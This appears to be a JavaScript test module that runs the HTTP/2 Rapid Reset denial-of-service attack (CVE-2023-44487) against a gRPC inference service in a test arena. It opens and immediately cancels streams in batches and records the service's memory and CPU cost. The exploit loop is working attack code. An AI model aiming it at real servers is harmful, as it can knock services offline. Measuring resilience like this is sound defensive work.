// Attacks on the gRPC port whose cost is measured.
import { END_HEADERS, H2Connection, TYPE, callHeaders, frame } from './h2.mjs';
import { SLACK } from './raw.mjs';

const CANCEL = 8;
const BATCH = 500;

/**
 * Opens streams and resets them immediately (CVE-2023-44487), for `ms` or until there were `most` of them. Resolves
 * with their number, the service's growth in KiB and its CPU time in seconds.
 */
export async function rapidReset(arena, { ms = Infinity, most = Infinity }) {
  const before = arena.residentKb(arena.inference);
  const cpuBefore = arena.cpuSeconds(arena.inference);
  const connection = await H2Connection.open(arena.grpc);
  const headers = callHeaders('/runnel.v1.InferenceService/Generate');
  const code = Buffer.from([0, 0, 0, CANCEL]);
  const until = performance.now() + ms * SLACK;
  let streams = 0;
  while (performance.now() < until && streams < most && !connection.raw.ended) {
    const batch = [];
    for (let i = 0; i < BATCH; i++) {
      const id = 2 * streams++ + 1;
      batch.push(frame(TYPE.headers, END_HEADERS, id, headers), frame(TYPE.rstStream, 0, id, code));
    }
    await connection.raw.send(Buffer.concat(batch));
    // Runs the event loop once per batch, to read the responses.
    await new Promise(setImmediate);
  }
  const kib = arena.residentKb(arena.inference) - before;
  const cpu = arena.cpuSeconds(arena.inference) - cpuBefore;
  connection.raw.destroy();
  return { streams, kib, cpu };
}
